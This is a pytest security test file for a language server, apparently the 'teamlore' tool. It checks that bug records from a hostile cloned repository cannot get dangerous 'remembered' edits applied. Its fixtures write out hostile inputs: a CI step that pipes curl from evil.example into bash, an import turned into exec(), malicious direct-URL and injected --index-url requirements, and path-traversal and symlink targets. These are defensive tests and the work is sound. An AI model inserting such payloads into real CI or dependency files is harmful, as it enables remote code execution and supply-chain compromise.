"""Remembered edits from a hostile clone, through the real language server over stdio.

A hostile repository can commit bug records whose ``fix`` text says something harmless
and whose ``edits`` and ``fix_diff`` say something else. What it can do: have its record
matched against the victim's error, have the record file opened at its diff ("Show
remembered fix diff"), and, if it stores a valid remembered edit, have the editor offer
exactly that edit (one PEP 508 requirement line without a direct URL, or one dotted
module name replacing the module of an existing import line) under a title that states
it. What it cannot do: get any other kind of edit applied (a ``curl … | bash`` step in a
CI workflow, an import rewritten into ``exec(...)``, a direct URL requirement, injected
extra requirement lines, a path outside the workspace or through a symlink), or put its
free ``fix`` text in the title of an action that edits files; crafted arguments sent
straight to ``workspace/executeCommand`` are validated again and must name an edit the
record holds.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
import pytest_lsp
from lsprotocol import types
from pygls.exceptions import JsonRpcException
from pygls.uris import from_fs_path
from pytest_lsp import LanguageClient

from memory_store.bugs.records import BugStore
from memory_store.workspace import Workspace
from tests.lsp.conftest import CONFIG, PRESETS, WAIT, start_session, wait_until
from tests.security.hostile_repo import Symlink, hostile_clone

pytestmark = pytest.mark.e2e

HOSTILE_ERROR = "ModuleNotFoundError: No module named 'shop_db'"
HARMLESS_FIX = "declare SHOP_DB in .env.example"
VALID_ERROR = "ModuleNotFoundError: No module named 'requests'"
CI = ".github/workflows/ci.yml"
CI_TEXT = "on: push\njobs:\n  test:\n    steps:\n      - run: pytest\n"
MAIN_PY = "from shop.db import connect\nimport shop_db\n"
REQUIREMENTS = "flask==3.0\n"
CURL = "      - run: curl -fsSL https://evil.example/x.sh | bash\n"
HOSTILE_EDITS: list[dict[str, Any]] = [
    {"kind": "append", "file": CI, "text": CURL},
    {"kind": "add-dependency", "file": CI, "package": "x", "requirement": "x"},
    {"kind": "rename-import", "file": "app/main.py", "old": "shop.db", "new": "exec(open('/tmp/p').read())"},
    {"kind": "rename-import", "file": CI, "old": "shop.db", "new": "shop.database"},
    {"kind": "add-dependency", "file": "requirements.txt", "package": "evil",
     "requirement": "evil @ https://x.example/evil.tar.gz"},
    {"kind": "add-dependency", "file": "requirements.txt", "package": "evil",
     "requirement": "evil @ file:///tmp/evil"},
    {"kind": "add-dependency", "file": "requirements.txt", "package": "requests",
     "requirement": "requests\n--index-url https://evil.example/simple\nevil"},
    {"kind": "add-dependency", "file": "../outside/requirements.txt", "package": "six", "requirement": "six"},
    {"kind": "add-dependency", "file": "/etc/requirements.txt", "package": "six", "requirement": "six"},
    {"kind": "add-dependency", "file": "deps/requirements.txt", "package": "six", "requirement": "six"},
]
SYMLINKED = HOSTILE_EDITS[-1]  # valid in shape, but deps/ is a symlink to .github/workflows
HOSTILE_DIFF = (f"diff --git a/{CI} b/{CI}\n--- a/{CI}\n+++ b/{CI}\n@@ -5 +5,2 @@\n"
                f"       - run: pytest\n+{CURL}")
VALID_EDIT = {"kind": "add-dependency", "file": "requirements.txt", "package": "requests",
              "requirement": "requests>=2.31"}
VALID_TITLE = 'Add "requests>=2.31" to requirements.txt (remembered fix)'
VALID_RENAME = {"kind": "rename-import", "file": "app/main.py", "old": "shop.db", "new": "shop.database"}
RENAME_TITLE = "Rename import shop.db -> shop.database in app/main.py (remembered fix)"


def record_files(tmp_path: Path) -> tuple[dict[str, str], str, str]:
    """Two bug records as the attacker commits them: a hostile one and one with a valid edit."""
    author = Workspace(tmp_path / "author")
    store = BugStore(author)
    hostile, _ = store.add(HOSTILE_ERROR, HARMLESS_FIX, author="mallory",
                           extra={"edits": HOSTILE_EDITS, "fix_diff": HOSTILE_DIFF})
    valid, _ = store.add(VALID_ERROR, "added requests", author="mallory",
                         extra={"edits": [VALID_EDIT, HOSTILE_EDITS[0], VALID_RENAME]})
    files = {f".teamlore/bugs/{p.name}": p.read_text(encoding="utf-8")
             for p in (author.root / ".teamlore" / "bugs").glob("*.json")}
    return files, hostile["id"], valid["id"]


@pytest_lsp.fixture(config=CONFIG, params=PRESETS)
async def client(request: pytest.FixtureRequest, lsp_client: LanguageClient, tmp_path: Path):
    records, hostile_id, valid_id = record_files(tmp_path)
    root = hostile_clone(tmp_path, {**records, CI: CI_TEXT, "app/main.py": MAIN_PY,
                                    "requirements.txt": REQUIREMENTS, "deps": Symlink(".github/workflows")})
    await start_session(lsp_client, request.param, root)
    lsp_client.ids = {"hostile": hostile_id, "valid": valid_id}  # type: ignore[attr-defined]
    yield
    await asyncio.wait_for(lsp_client.shutdown_session(), WAIT)


def root_of(client: LanguageClient) -> Path:
    return client.root  # type: ignore[attr-defined]


def unchanged(root: Path) -> bool:
    return ((root / CI).read_text() == CI_TEXT and (root / "app" / "main.py").read_text() == MAIN_PY
            and (root / "requirements.txt").read_text() == REQUIREMENTS)


def show_error(client: LanguageClient, error: str) -> str:
    """Open app/main.py and forward an editor diagnostic carrying ``error`` on line 1."""
    path = root_of(client) / "app" / "main.py"
    uri = from_fs_path(str(path))
    client.text_document_did_open(types.DidOpenTextDocumentParams(text_document=types.TextDocumentItem(
        uri=uri, language_id="python", version=1, text=path.read_text(encoding="utf-8"))))
    client.protocol.notify("teamlore/didChangeDiagnostics", {"uri": uri, "diagnostics": [
        {"range": {"start": {"line": 1, "character": 7}, "end": {"line": 1, "character": 14}},
         "message": error, "source": "pyright", "severity": 1}]})
    return uri


async def code_actions(client: LanguageClient, uri: str) -> list[types.CodeAction]:
    result = await asyncio.wait_for(client.text_document_code_action_async(types.CodeActionParams(
        text_document=types.TextDocumentIdentifier(uri=uri),
        range=types.Range(start=types.Position(line=1, character=0), end=types.Position(line=2, character=0)),
        context=types.CodeActionContext(diagnostics=[]))), WAIT)
    actions = list(result or [])
    assert all(isinstance(a, types.CodeAction) for a in actions), actions
    return actions  # type: ignore[return-value]


async def actions_once_matched(client: LanguageClient, uri: str) -> list[types.CodeAction]:
    async def matched() -> list[types.CodeAction] | None:
        actions = await code_actions(client, uri)
        return actions if any(a.title.startswith("Show 1 past fix") for a in actions) else None

    return await wait_until(matched, what="actions for the matched record")


async def execute(client: LanguageClient, command: str, arguments: list[Any]) -> Any:
    return await asyncio.wait_for(client.workspace_execute_command_async(types.ExecuteCommandParams(
        command=command, arguments=arguments)), WAIT)


async def test_hostile_edits_are_never_offered_only_the_diff_is_shown(client: LanguageClient):
    root = root_of(client)
    uri = show_error(client, HOSTILE_ERROR)
    actions = await actions_once_matched(client, uri)
    assert all(a.edit is None for a in actions)
    assert not any("remembered fix)" in a.title for a in actions)
    assert not any("SHOP_DB" in a.title for a in actions)  # the free fix text titles no action
    [show] = [a for a in actions if a.title == "Show remembered fix diff"]
    assert show.command is not None
    result = await execute(client, show.command.command, show.command.arguments or [])
    record = root / result["path"]
    assert result["path"] == f".teamlore/bugs/{client.ids['hostile']}.json"  # type: ignore[attr-defined]
    # every stored edit was refused, and said so (the symlinked target is refused when planned)
    assert len(result["not_applied"]) == len(HOSTILE_EDITS) - 1
    assert all(reason.startswith("not applied: ") for reason in result["not_applied"])
    [shown] = client.shown_documents
    assert shown.uri == from_fs_path(str(record))
    assert json.loads(record.read_text())["fix_diff"] == HOSTILE_DIFF
    assert shown.selection is not None
    assert '"fix_diff"' in record.read_text().splitlines()[shown.selection.start.line]
    assert client.applied_edits == []  # type: ignore[attr-defined]
    assert unchanged(root)


async def test_valid_remembered_edits_are_applied_exactly(client: LanguageClient):
    root = root_of(client)
    uri = show_error(client, VALID_ERROR)
    actions = await actions_once_matched(client, uri)
    remembered = [a for a in actions if "remembered fix" in a.title]
    # the workflow edit of the same record is dropped
    assert [a.title for a in remembered] == [VALID_TITLE, RENAME_TITLE]
    action, rename_action = remembered
    assert action.edit is None and action.command is not None
    result = await execute(client, action.command.command, action.command.arguments or [])
    assert result == {"applied": True, "title": VALID_TITLE, "file": "requirements.txt"}
    [applied] = client.applied_edits  # type: ignore[attr-defined]
    end = types.Position(line=1, character=0)
    only_edit = types.TextEdit(range=types.Range(start=end, end=end), new_text="requests>=2.31\n")
    assert {k: list(v) for k, v in applied.changes.items()} == {
        from_fs_path(str(root / "requirements.txt")): [only_edit]}
    assert rename_action.command is not None
    result = await execute(client, rename_action.command.command, rename_action.command.arguments or [])
    assert result == {"applied": True, "title": RENAME_TITLE, "file": "app/main.py"}
    renamed = client.applied_edits[1]  # type: ignore[attr-defined]
    token = types.Range(start=types.Position(line=0, character=5), end=types.Position(line=0, character=12))
    assert {k: list(v) for k, v in renamed.changes.items()} == {
        from_fs_path(str(root / "app" / "main.py")): [types.TextEdit(range=token, new_text="shop.database")]}
    assert unchanged(root)  # the test client records edits; the server never writes the files itself


@pytest.mark.parametrize("which, edit", [
    pytest.param("hostile", HOSTILE_EDITS[0], id="curl-into-ci"),
    pytest.param("hostile", HOSTILE_EDITS[2], id="import-into-exec"),
    pytest.param("hostile", HOSTILE_EDITS[4], id="direct-url"),
    pytest.param("hostile", HOSTILE_EDITS[6], id="injected-lines"),
    pytest.param("hostile", HOSTILE_EDITS[7], id="dotdot"),
    pytest.param("valid", {**VALID_EDIT, "requirement": "evil @ https://x.example/evil.tar.gz", "package": "evil"},
                 id="url-not-in-record"),
    pytest.param("valid", {**VALID_EDIT, "requirement": "requests>=2.31\nevil", "package": "requests"},
                 id="newline-not-in-record"),
    pytest.param("valid", {**VALID_EDIT, "requirement": "six", "package": "six"}, id="valid-but-not-in-record"),
    pytest.param("valid", {**VALID_EDIT, "file": CI}, id="record-edit-moved-to-ci"),
    pytest.param("../../etc/passwd", VALID_EDIT, id="unknown-record"),
])
async def test_crafted_command_arguments_cannot_apply_an_edit(client: LanguageClient, which: str,
                                                              edit: dict[str, Any]):
    root = root_of(client)
    record_id = client.ids.get(which, which)  # type: ignore[attr-defined]
    with pytest.raises(JsonRpcException, match=r"not applied|unknown bug record"):
        await execute(client, "teamlore.applyRememberedEdit",
                      [{"uri": from_fs_path(str(root / "app" / "main.py")), "id": record_id, "edit": edit}])
    assert client.applied_edits == []  # type: ignore[attr-defined]
    assert unchanged(root)


async def test_valid_edit_through_a_symlink_is_not_applied(client: LanguageClient):
    root = root_of(client)
    result = await execute(client, "teamlore.applyRememberedEdit", [
        {"id": client.ids["hostile"], "edit": SYMLINKED}])  # type: ignore[attr-defined]
    assert result["applied"] is False
    assert client.applied_edits == []  # type: ignore[attr-defined]
    assert unchanged(root)
